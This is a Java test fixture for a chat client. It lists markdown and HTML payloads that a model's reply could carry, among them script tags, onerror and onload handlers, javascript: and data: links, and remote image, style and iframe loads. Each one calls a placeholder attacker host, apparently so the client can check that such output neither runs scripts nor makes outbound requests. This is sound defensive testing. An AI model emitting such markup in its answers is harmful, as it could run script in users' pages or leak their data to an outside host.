package litechat.e2e;

import java.util.List;

/** What a model may say that is meant to run in the reader's page, or to tell somebody that it was read. */
final class HostileContent {
    private HostileContent() {}

    /** Markdown and HTML, each of which would ask {@code attacker} for something or run a script. */
    static String asking(String attacker) {
        return String.join(
                        "\n\n",
                        List.of(
                                "before",
                                "<script>fetch('A/script')</script>",
                                "<script src=\"A/script-src\"></script>",
                                "<img src=\"A/img\">",
                                "<img src=\"x\" onerror=\"fetch('A/onerror')\">",
                                "<img srcset=\"A/srcset 1x\">",
                                "<svg onload=\"fetch('A/onload')\"><image href=\"A/svg-image\"/></svg>",
                                "<iframe src=\"A/iframe\"></iframe>",
                                "<iframe srcdoc=\"<img src='A/srcdoc'>\"></iframe>",
                                "<link rel=\"stylesheet\" href=\"A/sheet\">",
                                "<link rel=\"prefetch\" href=\"A/prefetch\">",
                                "<style>body { background: url(A/style) }</style>",
                                "<div style=\"background: url(A/style-attribute)\">div</div>",
                                "<video poster=\"A/poster\" src=\"A/video\"></video>",
                                "<audio src=\"A/audio\"></audio>",
                                "<object data=\"A/object\"></object>",
                                "<embed src=\"A/embed\">",
                                "<input type=\"image\" src=\"A/input\">",
                                "<details open ontoggle=\"fetch('A/ontoggle')\"><summary>s</summary></details>",
                                "<meta http-equiv=\"refresh\" content=\"9;url=A/refresh\">",
                                "<base href=\"A/\">",
                                "![inline](A/markdown-image)",
                                "![reference][image]",
                                "[![linked](A/linked-image)](https://example.org)",
                                "<picture><source srcset=\"A/source\"><img src=\"A/picture\"></picture>",
                                "<a href=\"javascript:fetch('A/javascript')\">html link</a>",
                                "[markdown link](javascript:fetch('A/markdown-javascript'))",
                                "[tabbed link](java\tscript:fetch('A/tabbed-javascript'))",
                                "[data link](data:text/html,<script>fetch('A/data')</script>)",
                                "[image]: A/markdown-reference",
                                "after"))
                .replace("A/", attacker + "/");
    }
}
